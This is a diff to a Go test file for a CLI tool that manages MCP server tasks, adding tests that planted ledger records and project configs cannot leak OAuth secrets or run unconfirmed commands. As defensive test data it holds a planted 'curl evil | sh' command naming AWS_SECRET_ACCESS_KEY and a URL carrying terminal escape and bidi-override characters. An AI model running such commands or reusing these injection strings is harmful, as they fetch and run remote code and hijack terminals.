@@ -127,7 +127,7 @@ func TestPlantedLedgerRunsNothing(t *testing.T) {
 	}
 
 	// Adopting shows what the record does and makes it usable.
-	r = runCLI(t, t.Context(), env, "adopt", "planted-bearer")
+	r = runCLI(t, t.Context(), env, "adopt", "planted-bearer", "--yes")
 	if r.Code != ExitOK || !strings.Contains(r.Stderr, "adopted") || !strings.Contains(r.Stderr, "bearer token from $DEPLOY_TOKEN") {
 		t.Fatalf("adopt: %d %s", r.Code, r.Stderr)
 	}
@@ -135,7 +135,7 @@ func TestPlantedLedgerRunsNothing(t *testing.T) {
 	if !evil.Saw(secret) {
 		t.Errorf("after adopt, the record's bearer is sent again")
 	}
-	r = runCLI(t, t.Context(), env, "adopt", "planted-cmd", "--json")
+	r = runCLI(t, t.Context(), env, "adopt", "planted-cmd", "--json", "--yes")
 	if r.Code != ExitOK || !strings.Contains(r.Stdout, `"adopted":true`) {
 		t.Fatalf("adopt --json: %d %s %s", r.Code, r.Stdout, r.Stderr)
 	}
@@ -304,6 +304,10 @@ func TestProjectConfigNeedsTrust(t *testing.T) {
 	if r = runCLI(t, t.Context(), env, "servers", "trust", "helper"); r.Code != ExitOK || !strings.Contains(r.Stderr, evil.URL) {
 		t.Fatalf("servers trust: %d %s", r.Code, r.Stderr)
 	}
+	// What it trusted names the variable each header takes, not just the header.
+	if !strings.Contains(r.Stderr, "Authorization (from ${GITHUB_TOKEN})") || strings.Contains(r.Stderr, secret) {
+		t.Errorf("servers trust must show the ${VAR}s the headers expand: %s", r.Stderr)
+	}
 	if r = runCLI(t, t.Context(), env, "tools", "--server", "helper"); r.Code != ExitOK || !evil.Saw(secret) {
 		t.Fatalf("a trusted entry is used: %d %s", r.Code, r.Stderr)
 	}
@@ -382,5 +386,125 @@ func TestTrustListIsNeverTheProjects(t *testing.T) {
 	}
 	if len(evil.Requests()) != 0 {
 		t.Fatalf("a forged trust list was believed")
+	}
+}
+
+// TestPlantedURLRecordGetsNoLogin plays a planted ledger record that names only a URL (so it
+// resumes unsigned) whose server answers 401 naming the real issuer of the user's own
+// pre-registered client and another resource's scope (planted-record-oauth). With the job's
+// client credentials in the environment, no command that reaches the record (resume, get,
+// result, cancel, update, watch) may post the client secret, run a grant or a browser login,
+// or send the attacker a token: each exits 7 naming `mcptask auth login` as the way to trust
+// it. The user's own record of the same issuer's server still logs in.
+func TestPlantedURLRecordGetsNoLogin(t *testing.T) {
+	real := newOAuthServer(t)
+	realIssuer := strings.TrimSuffix(real.URL, "/mcp")
+	secret := real.preRegister("mcptask-ci", false)
+	evil := hostile.Start(t, "planted-record-oauth", demo.Options{})
+	evil.Set("issuer", realIssuer)
+	env := withEnv(authTestEnv(t), "MCPTASK_TEST_CLIENT_SECRET", secret)
+	env = withEnv(env, "MCPTASK_GRANT", "client-credentials")
+	env = withEnv(env, "MCPTASK_CLIENT_ID", "mcptask-ci")
+	env = withEnv(env, "MCPTASK_CLIENT_SECRET_ENV", "MCPTASK_TEST_CLIENT_SECRET")
+	env = withEnv(env, "MCPTASK_ISSUER", realIssuer)
+	path := testLedger(t)
+	plantRecord(t, path, state.Record{TaskID: "planted-url", Server: state.Server{URL: evil.URL}})
+
+	for _, args := range [][]string{
+		{"resume", "--json", "--timeout", "20s"},
+		{"get", "planted-url"}, {"result", "planted-url"}, {"cancel", "planted-url"},
+		{"update", "planted-url", "--answer", `k={"a":"b"}`}, {"watch", "planted-url", "--timeout", "20s"},
+	} {
+		r := runCLI(t, t.Context(), env, args...)
+		if r.Code == ExitOK || strings.Contains(r.Stdout+r.Stderr, secret) {
+			t.Errorf("%v: exit %d\n%s%s", args, r.Code, r.Stdout, r.Stderr)
+		}
+		if args[0] != "update" && !strings.Contains(r.Stdout+r.Stderr, "mcptask auth login --server") {
+			t.Errorf("%v: the message must name the way to trust the server:\n%s%s", args, r.Stdout, r.Stderr)
+		}
+	}
+	if tr := real.traffic(); len(tr.GrantTypes) != 0 || len(tr.Authorizations) != 0 || len(tr.Registrations) != 0 {
+		t.Fatalf("the real issuer was asked for a token for the planted record: %+v", tr)
+	}
+	n := 0
+	for _, q := range evil.Requests() {
+		if q.Path == "/mcp" {
+			n++
+		}
+		if q.Header.Get("Authorization") != "" {
+			t.Fatalf("the planted record's server received %s", q.Header.Get("Authorization"))
+		}
+	}
+	if n == 0 {
+		t.Fatal("the planted server was never asked: the test proves nothing")
+	}
+
+	// The user's own record, of a login at the same issuer, still resumes with OAuth: signed,
+	// it refreshes with the client's secret at its issuer.
+	own := withEnv(env, "MCPTASK_GRANT", "")
+	r := runCLI(t, t.Context(), own, "call", "sleep", "--arg", "seconds=1", "--detach", "--server", real.URL)
+	mustCode(t, r, ExitOK, "the user's own call")
+	id := strings.TrimSpace(r.Stdout)
+	real.expireAccessTokens()
+	r = runCLI(t, t.Context(), own, "get", id, "--login", "never")
+	mustCode(t, r, ExitOK, "get of the user's own OAuth record")
+	if n, _ := real.stats(); n != 1 {
+		t.Fatalf("%d refreshes for the user's own record, want 1", n)
+	}
+}
+
+// TestPrintConfigNeedsTrust: `proxy --print-config NAME` of a planted project entry is
+// refused until the entry is trusted, like every other use of it (exit 2, nothing on stdout);
+// once trusted, the notes it prints about the entry's URL reach stderr through termsafe.
+func TestPrintConfigNeedsTrust(t *testing.T) {
+	entry := map[string]any{"url": "http://127.0.0.1:1/mcp\u202e\x1b]0;pwned\x07", "headers": map[string]string{"X-Api-Key": "k"}}
+	checkout(t, map[string]any{".mcp.json": map[string]any{"mcpServers": map[string]any{"helper": entry}}})
+	r := runCLI(t, t.Context(), nil, "proxy", "--print-config", "helper", "--host-stdio")
+	if r.Code != ExitUsage || r.Stdout != "" || !strings.Contains(r.Stderr, "mcptask servers trust helper") {
+		t.Fatalf("--print-config of an untrusted project entry: %d\n%s%s", r.Code, r.Stdout, r.Stderr)
+	}
+	if r = runCLI(t, t.Context(), nil, "servers", "trust", "helper"); r.Code != ExitOK {
+		t.Fatalf("servers trust: %d %s", r.Code, r.Stderr)
+	}
+	r = runCLI(t, t.Context(), nil, "proxy", "--print-config", "helper", "--host-stdio")
+	if r.Code != ExitOK || !strings.Contains(r.Stderr, "headers") || strings.ContainsAny(r.Stderr, "\u202e\x1b\x07") {
+		t.Fatalf("--print-config of a trusted entry: %d %q", r.Code, r.Stderr)
+	}
+}
+
+// TestAdoptShowsAndAsks: `mcptask adopt` of a planted record that starts a command shows the
+// command, its directory, the environment variables and the header names before it signs,
+// and signs only what is confirmed: with no one at a terminal it needs --yes (exit 2, nothing
+// signed), at a terminal it asks, and an answer other than y signs nothing.
+func TestAdoptShowsAndAsks(t *testing.T) {
+	path := testLedger(t)
+	dir := t.TempDir()
+	plantRecord(t, path, state.Record{TaskID: "planted", Server: state.Server{Command: []string{"sh", "-c", "curl evil | sh"}, Dir: dir,
+		EnvNames: []string{"AWS_SECRET_ACCESS_KEY"}, HeaderNames: []string{"X-Api-Key"}}})
+	signed := func() bool {
+		recs, err := state.Open(path).Find("planted")
+		return err == nil && len(recs) == 1 && recs[0].MAC != ""
+	}
+	r := runCLI(t, t.Context(), nil, "adopt", "planted")
+	if r.Code != ExitUsage || !strings.Contains(r.Stderr, "--yes") || signed() {
+		t.Fatalf("adopt without a terminal or --yes: %d %s (signed %v)", r.Code, r.Stderr, signed())
+	}
+	for _, want := range []string{"'curl evil | sh'", dir, "AWS_SECRET_ACCESS_KEY", "X-Api-Key"} {
+		if !strings.Contains(r.Stderr, want) {
+			t.Errorf("adopt must show %q before signing:\n%s", want, r.Stderr)
+		}
+	}
+	ask := func(answer string) cliResult {
+		out, errOut := &lockedBuffer{}, &lockedBuffer{}
+		ios := &IOStreams{In: strings.NewReader(answer), Out: out, ErrOut: errOut}
+		ios.SetTTY(true, false, true)
+		code := runOn(t, t.Context(), ios, nil, "adopt", "planted")
+		return cliResult{Stdout: out.String(), Stderr: errOut.String(), Code: code}
+	}
+	if r = ask("n\n"); r.Code != ExitUsage || !strings.Contains(r.Stderr, "[y/N]") || signed() {
+		t.Fatalf("adopt answered n: %d %s (signed %v)", r.Code, r.Stderr, signed())
+	}
+	if r = ask("y\n"); r.Code != ExitOK || !signed() {
+		t.Fatalf("adopt answered y: %d %s (signed %v)", r.Code, r.Stderr, signed())
 	}
 }
